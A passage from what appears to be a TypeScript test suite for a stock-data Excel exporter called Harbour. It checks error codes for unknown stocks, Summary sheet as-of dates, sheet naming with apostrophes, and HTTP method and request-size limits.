      /Unknown codes \(no prices for them in Harbour, no sheets\): 99999\./,
    );

    const none = await fetch(exportUrl({ codes: '99999,88888', from: FROM, to: TO }));
    expect(none.status).toBe(404);
    expect(await none.json()).toEqual({
      error: 'unknown_code',
      code: 'HARBOUR_ERR_UNKNOWN_CODE',
      parameter: 'codes',
      message: 'codes: 99999, 88888 are not known stocks; Harbour has no prices for them',
    });
    await exportsIdle();
  });

  it('the Summary states its as-of date and takes every figure at that date', async () => {
    // A range after the last prices: nothing is as of it, so no figure at all (not P/E from 2026).
    const future = await download({
      codes: '00700',
      from: '9999-12-31',
      to: '9999-12-31',
      sheets: 'summary',
    });
    expect(future.res.status).toBe(200);
    const fs = wb0(await readWorkbook(future.bytes));
    expect(String(fs.title)).toMatch(/as of n\/a \(no prices in the range\)/);
    expect(fs.row.slice(0, 2)).toEqual(['00700', 'TENCENT']);
    expect(fs.row.slice(2, 12)).toEqual(Array(10).fill(null));
    expect(fs.row[12]).toBe('no prices between 31/12/9999 and 31/12/9999');

    // `to` on a Sunday: every figure as of the Friday before, the last day with prices.
    const to = '2026-06-14';
    const asOf = '2026-06-12';
    const d = await download({ codes: '00700', from: '2026-06-01', to, sheets: 'summary' });
    const s = wb0(await readWorkbook(d.bytes));
    expect(String(s.title)).toMatch(/as of 12\/06\/2026/);
    const { rows: g } = await db.pool.query(
      `select p.close::float8 as close, s.pe::float8 as pe, s.dividend_yield::float8 as dy, r.dv_30d_trading::float8 as dv30
       from gold.daily_prices p
       join gold.stock_picker s on s.code = p.code and s.as_of = p.trade_date
       join gold.rolling_directed_volume r on r.code = p.code and r.trade_date = p.trade_date
       where p.code = '00700' and p.trade_date = $1`,
      [asOf],
    );
    const mtd = (await goldPrices(db.pool, '00700', '2026-06-01', asOf)).at(-1)!;
    const { rows: cc } = await db.pool.query(
      `select top10_pct::float8 as t from gold.ccass_concentration where code = '00700' and holding_date <= $1
       order by holding_date desc limit 1`,
      [asOf],
    );
    expect(s.row.slice(2, 3)).toEqual([g[0].close]);
    expect(s.row.slice(4, 12)).toEqual([
      g[0].pe,
      g[0].dy,
      mtd.monthHigh,
      mtd.monthHighDate,
      mtd.monthLow,
      mtd.monthLowDate,
      g[0].dv30,
      cc[0]?.t ?? null,
    ]);
    await exportsIdle();
  });

  it('keeps apostrophes inside sheet names (Excel forbids them only at the ends)', async () => {
    expect(stockSheetName('00062', "TRANSPORT INT'L")).toBe("00062 TRANSPORT INT'L");
    expect(stockSheetName('00001', "ODD NAME'")).toBe('00001 ODD NAME');
    await copyStock('00062', "TRANSPORT INT'L");
    const { res, bytes } = await download({ codes: '62', sheets: 'prices' });
    expect(res.status).toBe(200);
    expect((await readWorkbook(bytes)).worksheets.map((w) => w.name)).toEqual([
      'Summary',
      "00062 TRANSPORT INT'L",
    ]);
  });
});

/** The Summary's title and first data row. */
function wb0(wb: ExcelJS.Workbook): { title: unknown; row: (number | string | null)[] } {
  const ws = wb.getWorksheet('Summary')!;
  return { title: cellValue(ws.getCell('A1')), row: sheetRows(ws, 3)[0] ?? [] };
}

describe('HTTP protocol', () => {
  it.each(['OPTIONS', 'POST', 'PUT', 'DELETE', 'PATCH'])(
    '%s on a GET route → 405 with Allow',
    async (method) => {
      const res = await fetch(`${exporter.url}/export.xlsx?codes=700&from=${FROM}&to=${TO}`, { method });
      expect(res.status).toBe(405);
      expect(res.headers.get('allow')).toBe('GET, HEAD');
      expect(await res.json()).toMatchObject({
        error: 'method_not_allowed',
        code: 'HARBOUR_ERR_METHOD_NOT_ALLOWED',
      });
      const page = await fetch(`${exporter.url}/`, { method });
      expect(page.status).toBe(405);
      expect(page.headers.get('allow')).toBe('GET, HEAD');
    },
  );

  it('an unknown path stays 404', async () => {
    const res = await fetch(`${exporter.url}/nope`, { method: 'POST' });
    expect(res.status).toBe(404);
    expect(await res.json()).toMatchObject({ error: 'not_found', code: 'HARBOUR_ERR_NOT_FOUND' });
  });

  it('10,000 codes → 414 naming codes, counted in the metrics (not Node’s bare 431)', async () => {
    const before = await metric('harbour_exporter_requests_total', '{route="/export.xlsx",status="414"}');
    const codes = Array.from({ length: 10_000 }, (_, i) => String(i + 1)).join(',');
    const res = await fetch(exportUrl({ codes, from: FROM, to: TO }));
    expect(res.status).toBe(414);
    const body = (await res.json()) as { error: string; parameter: string; message: string };
    expect(body).toMatchObject({
      error: 'uri_too_long',
      code: 'HARBOUR_ERR_REQUEST_TOO_LARGE',
      parameter: 'codes',
    });
    expect(body.message).toMatch(/codes is too long \(at most 200 codes per request\)/);
    expect(await metric('harbour_exporter_requests_total', '{route="/export.xlsx",status="414"}')).toBe(
      before + 1,
    );
  });
});
